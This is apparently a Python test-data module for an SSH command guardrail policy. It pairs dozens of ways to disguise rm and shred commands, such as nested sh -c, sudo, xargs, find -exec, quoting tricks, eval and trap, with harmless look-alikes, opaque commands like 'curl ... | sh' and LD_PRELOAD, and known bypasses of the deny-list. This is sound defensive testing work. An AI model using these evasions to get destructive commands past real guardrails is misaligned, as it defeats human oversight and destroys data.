"""The SSH command evasion corpus, as data: commands that must be caught, harmless ones that must pass.

Reused by the unit tests (tests/policy/test_command_guardrails.py) and meant
for end-to-end tests through a real `ssh host COMMAND`. Every list holds
(command, reason) pairs, judged by `no_rm_spec()`: one deny rule on
`programs: [rm, shred]`, default allow, opaque review, unparseable deny.

- EVASIONS: each runs rm or shred, however hidden; the rule "no-rm" denies it.
- HARMLESS: only look like it (rm as an argument, in quotes, in a comment...).
- OPAQUE: what runs is only known when it runs: the `opaque` action.
- UNPARSEABLE: shell the parser cannot read (bashlex lacks some bash): the `unparseable` action.
- KNOWN_LIMITS: ways round a deny-list that static reading cannot see, allowed;
  why command rules are guard-rails and not a sandbox (an allow-list with
  `default: deny` narrows them, a sandbox on the host closes them).

The commands name paths under /tmp/gatehouse-corpus only, should anyone run them.
"""

from connections.policy.rules import GuardrailMatch, GuardrailRule, PolicySpec

X = "/tmp/gatehouse-corpus/x"


def nested_sh(code: str, levels: int) -> str:
    """`code` run through `levels` nested `sh -c "..."`, escaped as a person would write it."""
    for _ in range(levels):
        escaped = code.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$").replace("`", "\\`")
        code = f'sh -c "{escaped}"'
    return code


def no_rm_spec() -> PolicySpec:
    """The corpus policy: deny rm and shred wherever they run."""
    return PolicySpec(
        name="no-rm",
        default="allow",
        unparseable="deny",
        opaque="review",
        guardrails=(GuardrailRule("no-rm", "deny", GuardrailMatch(programs=("rm", "shred"))),),
    )


EVASIONS = [
    (f"rm -rf {X}", "the plain command"),
    (f"sh -c 'rm -rf {X}'", "sh -c"),
    (f"bash -c \"bash -c 'rm -rf {X}'\"", "bash -c inside bash -c"),
    (f'sh -c \'sh -c "sh -c \\"rm -rf {X}\\""\'', "three levels of sh -c, with escaped quotes"),
    (nested_sh(f"rm -rf {X}", 8), "eight levels of sh -c, the most that is read"),
    (f"sh -xec 'rm -rf {X}'", "-c among clustered options"),
    (f"bash -o pipefail -c 'rm -rf {X}'", "-c after an option that takes a value"),
    (f"ls; rm -rf {X}", "a ; list"),
    (f"true && rm -rf {X}", "&&"),
    (f"false || shred -u {X}", "||"),
    (f"cat /etc/hostname | rm -f {X}", "a pipeline"),
    (f"ls\nrm -rf {X}", "newline-separated commands"),
    (f"rm -rf {X} &", "in the background"),
    (f"! rm -rf {X}", "a negated pipeline"),
    (f"echo $(rm -rf {X})", "$( )"),
    (f"echo `rm -rf {X}`", "backticks"),
    (f"echo `r\\\\m -rf {X}`", "an escaped backslash inside backticks"),
    (f'echo "$(rm -rf {X})"', "$( ) inside double quotes"),
    (f"x=$(rm -rf {X})", "$( ) in an assignment"),
    (f"echo ${{X:-$(rm -rf {X})}}", "$( ) in a parameter's default value"),
    (f"ls > $(rm -rf {X})", "$( ) as a redirection target"),
    (f"diff <(rm -rf {X}) /dev/null", "process substitution"),
    (f"cat <<EOF\n$(rm -rf {X})\nEOF", "$( ) in a here-document"),
    (f"bash <<< 'rm -rf {X}'", "a here-string fed to a shell"),
    (f"FOO=1 rm -rf {X}", "an environment prefix"),
    (f"env rm -rf {X}", "env"),
    (f"env -i HOME=/ rm -rf {X}", "env -i with an assignment"),
    (f"/usr/bin/env rm -rf {X}", "env by its absolute path"),
    (f"env -S 'rm -rf {X}'", "env -S splitting a string"),
    (f"sudo rm -rf {X}", "sudo"),
    (f"sudo -u root -- rm -rf {X}", "sudo with options and --"),
    (f"sudo sh -c 'cd /tmp && rm -rf {X}'", "sudo, sh -c and && together"),
    (f"/bin/rm -rf {X}", "an absolute path"),
    (f"./rm -rf {X}", "a relative path: programs are known by their basename"),
    (f"r\\m -rf {X}", "a backslash inside the name"),
    (f"'rm' -rf {X}", "single quotes"),
    (f'"r"m -rf {X}', "a partly double-quoted name"),
    (f"\"r\"'m' -rf {X}", "mixed quoting (bashlex's own unquoting gets this wrong)"),
    (f"$'\\x72m' -rf {X}", "ANSI-C quoting with a hex escape"),
    (f"(rm -rf {X})", "a subshell"),
    (f"{{ rm -rf {X}; }}", "a { } group"),
    (f"if true; then rm -rf {X}; fi", "an if body"),
    (f'for f in {X} {X}2; do rm "$f"; done', "a for body"),
    (f"while true; do shred {X}; break; done", "a while body"),
    (f"cleanup() {{ rm -rf {X}; }}; cleanup", "a function body"),
    (f"ls /tmp | xargs rm -f {X}", "xargs"),
    (f"xargs -0 -I{{}} rm {{}} < {X}.list", "xargs with options that take values"),
    (f"xargs sh -c 'rm \"$@\"' _ < {X}.list", "xargs running sh -c"),
    ("find /tmp/gatehouse-corpus -name '*.log' -exec rm {} \\;", "find -exec ... ;"),
    ("find /tmp/gatehouse-corpus -execdir shred -u {} +", "find -execdir ... {} +"),
    (f"nohup rm -rf {X} &", "nohup"),
    (f"timeout 5 rm -rf {X}", "timeout"),
    (f"timeout -s KILL 5 shred {X}", "timeout with a signal option"),
    (f"nice -n 10 rm -rf {X}", "nice"),
    (f"exec rm -rf {X}", "exec"),
    (f"command rm -rf {X}", "the command builtin"),
    (f"stdbuf -oL rm -rf {X}", "stdbuf"),
    (f"setsid rm -rf {X}", "setsid"),
    (f"chroot / rm -rf {X}", "chroot DIR"),
    (f"busybox rm -rf {X}", "a busybox applet"),
    (f"su -c 'rm -rf {X}' root", "su -c"),
    (f"watch -n 1 rm -rf {X}", "watch, which runs its words with sh -c"),
    (f"eval 'rm -rf {X}'", "eval of literal text"),
    (f"trap 'rm -rf {X}' EXIT", "a trap action"),
    (f"alias x='rm -rf {X}'", "an alias value"),
]

HARMLESS = [
    ("ls -la", "a plain command"),
    ("grep rm /etc/services", "rm as an argument is not a program"),
    ('echo "rm -rf /"', "rm inside a double-quoted argument"),
    ("echo '$(rm -rf /)'", "no substitution inside single quotes"),
    ('printf "%s\\n" "\\`rm -rf /\\`"', "escaped backticks are text"),
    ("cat <<'EOF'\n$(rm -rf /)\nEOF", "a quoted here-document is not expanded"),
    ("ls -la # rm -rf /", "a comment"),
    ("git status", "a plain command"),
    ("git rm --cached notes.txt", "a subcommand called rm is git's"),
    ("docker rm old-container", "and docker's"),
    ("cat /etc/hostname | wc -l", "a pipeline without rm"),
    ("ps aux | grep shred", "shred as an argument"),
    ("man rm", "reading about rm"),
    ("which rm", "finding rm"),
    ("command -v rm", "command -v only says where rm is"),
    ("rmdir /tmp/gatehouse-corpus/empty", "rmdir is not rm"),
    ("find /tmp -name rm -print", "find without -exec"),
    ("FOO=rm env", "rm as a variable's value"),
    ("tar czf /tmp/backup.tgz /var/www", "a plain command"),
    ("sudo systemctl restart nginx", "sudo of something else"),
    ("nohup ./server --port 8080 &", "nohup of something else"),
    ("timeout 5 curl -s http://localhost/health", "timeout of something else"),
    ("python3 manage.py migrate --check", "an interpreter running a script file"),
    ("bash deploy.sh", "a shell running a script file"),
    ("awk '{print $1}' /etc/passwd", "awk without system()"),
    ("df -h; uptime && free -m", "a list without rm"),
    ("", "a blank command runs nothing"),
]

OPAQUE = [
    (f"$CMD -rf {X}", "a variable as the program"),
    (f"$(echo rm) -rf {X}", "a command substitution as the program"),
    (f"/bin/r? -rf {X}", "a glob as the program"),
    (f"{{rm,-rf,{X}}}", "brace expansion as the program"),
    ('eval "$X"', "eval of text built at run time"),
    ("source ./setup.sh", "source"),
    (". ./setup.sh", "."),
    ('sh -c "$CMD"', "sh -c of text built at run time"),
    ("python3 -c 'import shutil'", "python -c"),
    ("perl -e 'unlink glob q{/tmp/*}'", "perl -e"),
    ("ruby -e 'puts 1'", "ruby -e"),
    ("node -e 'console.log(1)'", "node -e"),
    ("awk 'BEGIN { system(\"id\") }'", "awk calling system()"),
    ("curl -s http://example.com/x.sh | sh", "a shell reading a pipe"),
    ("bash -s < script.sh", "bash -s"),
    ("sh <<EOF\nid\nEOF", "a here-document fed to a shell"),
    ("python3", "an interpreter reading its input"),
    ("PATH=/tmp/evil:$PATH ls", "PATH changed: ls may be anything"),
    ("LD_PRELOAD=/tmp/x.so ls", "LD_PRELOAD"),
    ("hash -p /tmp/evil ls; ls", "hash -p rebinding a name"),
    ("sudo -i", "a root shell reading its input"),
]

UNPARSEABLE = [
    (f"case $x in a) rm -rf {X};; esac", "case: bashlex cannot read it"),
    (f"[[ -f {X} ]] && rm {X}", "[[ ]]: bashlex cannot read it"),
    ("echo $((1 + 2))", "arithmetic expansion: bashlex cannot read it"),
    ("time ls", "the time keyword: bashlex cannot read it"),
    ("a=(1 2 3)", "an array: bashlex cannot read it"),
    ('echo "unterminated', "an unterminated quote"),
    ("ls )", "a stray parenthesis"),
    ("sh -c 'case x in a) ls;; esac'", "unreadable shell inside sh -c still fails closed"),
    ("x" * (64 * 1024 + 1), "longer than the 64 KiB limit"),
    (nested_sh("ls", 9), "sh -c nested deeper than the limit"),
]

KNOWN_LIMITS = [
    ("ssh other-host rm -rf /tmp/x", "runs on another host: ssh is the program here"),
    ("printf 'rm -rf /tmp/x' > /tmp/s.sh; sh /tmp/s.sh", "a script written and then run: its file is not read"),
    ("cp /bin/rm /tmp/del; /tmp/del -rf /tmp/x", "a renamed copy of rm"),
    ("git -c alias.x='!rm -rf /tmp/x' x", "a program that runs other programs Gatehouse does not know about"),
    ("sed -n '1e rm -rf /tmp/x' /etc/hostname", "GNU sed's e command"),
]
